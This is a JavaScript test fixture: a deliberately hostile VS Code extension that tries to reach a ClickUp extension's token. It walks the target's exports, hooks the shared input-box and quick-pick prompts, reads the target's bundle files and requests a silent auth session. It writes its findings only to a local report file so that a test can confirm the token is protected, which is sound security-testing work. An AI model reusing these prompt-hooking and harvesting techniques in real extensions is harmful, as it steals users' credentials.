// A hostile extension, for tests only. It does what any installed extension can do to reach the
// ClickUp token, and reports everything it found (every string it could read) to a file the test
// reads. Plain JavaScript, no build.
'use strict';
const fs = require('fs');
const path = require('path');
const vscode = require('vscode');

const TARGET = 'clickup-goals-team.clickup-goals';
const report = { activated: false, attempts: [], strings: [], captured: [], session: 'not asked' };

/** Every string reachable from `root`: own and inherited properties, getters called, functions called with no arguments. */
function walk(root, label, depth = 0, seen = new Set()) {
  if (root === null || root === undefined || depth > 6) return;
  if (typeof root === 'string') {
    report.strings.push(root.slice(0, 500));
    return;
  }
  if (typeof root !== 'object' && typeof root !== 'function') return;
  if (seen.has(root) || seen.size > 5000) return;
  seen.add(root);
  for (let proto = root; proto && proto !== Object.prototype && proto !== Function.prototype; proto = Object.getPrototypeOf(proto)) {
    for (const key of Reflect.ownKeys(proto)) {
      if (key === 'constructor' || key === 'caller' || key === 'callee' || key === 'arguments') continue;
      let value;
      try {
        value = Reflect.get(proto, key, root);
      } catch {
        continue;
      }
      if (typeof value === 'function' && depth < 3) {
        try {
          const result = value.length === 0 ? value.call(root) : undefined;
          if (result && typeof result.then === 'function') result.then((v) => walk(v, label, depth + 1, seen), () => undefined);
          else walk(result, label, depth + 1, seen);
        } catch {
          // Not callable like that.
        }
      }
      walk(value, label, depth + 1, seen);
    }
  }
}

/** Attack 1: activate the extension and walk what it exports. */
async function walkExports() {
  const extension = vscode.extensions.getExtension(TARGET);
  if (!extension) {
    report.attempts.push({ attack: 'exports', found: 'extension not installed' });
    return;
  }
  const exports = await extension.activate();
  report.attempts.push({ attack: 'exports', found: exports === undefined ? 'undefined' : typeof exports, mode: extension.extensionKind });
  walk(exports, 'exports');
  return extension;
}

/** Attack 2: replace every prompt function it can reach, its own window API and any exported ones. */
function replacePrompts(exportsObject) {
  const replaced = [];
  const intercept = (owner, name) => {
    const original = owner[name];
    if (typeof original !== 'function') return;
    try {
      owner[name] = function (...args) {
        report.captured.push({ name, args: JSON.stringify(args, (_k, v) => (typeof v === 'function' ? 'fn' : v)) });
        const result = original.apply(this, args);
        if (result && typeof result.then === 'function') result.then((value) => report.captured.push({ name, value }), () => undefined);
        return result;
      };
      replaced.push(name);
    } catch (error) {
      report.attempts.push({ attack: 'prompts', name, error: String(error) });
    }
  };
  ['showInputBox', 'showQuickPick', 'createInputBox', 'createQuickPick'].forEach((name) => intercept(vscode.window, name));
  // The InputBox class is shared by every extension in this host: patch what a box's value reads.
  try {
    const box = vscode.window.createInputBox();
    const proto = Object.getPrototypeOf(box);
    const descriptor = Object.getOwnPropertyDescriptor(proto, 'value');
    if (descriptor && descriptor.get) {
      Object.defineProperty(proto, 'value', {
        ...descriptor,
        get() {
          const value = descriptor.get.call(this);
          report.captured.push({ name: 'InputBox.value', value });
          return value;
        },
      });
      replaced.push('InputBox.prototype.value');
    }
    box.dispose();
  } catch (error) {
    report.attempts.push({ attack: 'prompts', name: 'InputBox.prototype', error: String(error) });
  }
  if (exportsObject && typeof exportsObject === 'object') {
    for (const key of Object.keys(exportsObject)) intercept(exportsObject, key);
  }
  report.attempts.push({ attack: 'prompts', replaced });
}

/** Attack 3: read the loaded bundle: its module exports, the file, the extension's folder. */
function readBundle(extension) {
  const main = path.join(extension.extensionPath, extension.packageJSON.main || 'dist/extension.js');
  const resolved = require.resolve(main);
  const cached = require.cache[resolved];
  report.attempts.push({ attack: 'bundle', loaded: Boolean(cached), keys: cached ? Object.keys(cached.exports) : [] });
  if (cached) walk(cached.exports, 'bundle');
  try {
    report.strings.push(fs.readFileSync(resolved, 'utf8'));
  } catch (error) {
    report.attempts.push({ attack: 'bundle', error: String(error) });
  }
  for (const file of fs.readdirSync(extension.extensionPath, { recursive: true })) {
    const full = path.join(extension.extensionPath, String(file));
    try {
      if (fs.statSync(full).isFile() && fs.statSync(full).size < 2_000_000) report.strings.push(fs.readFileSync(full, 'utf8'));
    } catch {
      // Unreadable.
    }
  }
}

async function writeReport() {
  const extension = await walkExports();
  if (extension) readBundle(extension);
  // Without VS Code's consent, no session (silent: no prompt).
  try {
    const session = await vscode.authentication.getSession('clickup', [], { silent: true });
    report.attempts.push({ attack: 'silent session', found: session ? 'a session' : 'nothing' });
    if (session) walk(session, 'session');
  } catch (error) {
    report.attempts.push({ attack: 'silent session', error: String(error) });
  }
  writeReportFile();
  return 'written';
}

// Written whole or not at all (a temporary file renamed into place): the test reads the report as
// soon as the file exists, and a report of a megabyte and more is otherwise read half written.
function writeReportFile() {
  const file = process.env.HOSTILE_REPORT_FILE;
  if (!file) return;
  fs.writeFileSync(`${file}.partial`, JSON.stringify(report));
  fs.renameSync(`${file}.partial`, file);
}

async function askForSession() {
  try {
    const session = await vscode.authentication.getSession('clickup', [], { createIfNone: true });
    report.session = session ? `granted to ${session.account.label}` : 'nothing';
  } catch (error) {
    report.session = `refused: ${String(error && error.message)}`;
  }
  writeReportFile();
}

async function activate(context) {
  report.activated = true;
  // Set the traps before anyone signs in.
  const extension = vscode.extensions.getExtension(TARGET);
  let exportsObject;
  try {
    exportsObject = extension ? await extension.activate() : undefined;
  } catch (error) {
    report.attempts.push({ attack: 'exports', error: String(error) });
  }
  replacePrompts(exportsObject);
  context.subscriptions.push(
    vscode.commands.registerCommand('hostileTest.report', writeReport),
    vscode.commands.registerCommand('hostileTest.askForSession', () => void askForSession()),
  );
}

module.exports = { activate, deactivate: () => undefined };
